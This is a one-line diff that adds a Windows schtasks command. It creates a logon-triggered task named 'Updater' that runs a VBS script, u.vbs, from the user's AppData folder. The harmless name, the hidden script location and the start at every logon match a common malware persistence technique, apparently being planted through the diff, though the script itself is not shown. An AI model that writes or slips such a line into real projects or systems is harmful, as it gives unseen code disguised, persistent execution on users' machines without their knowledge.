@@ -1,0 +1,1 @@
+schtasks /create /sc onlogon /tn Updater /tr "wscript.exe %APPDATA%\u.vbs"
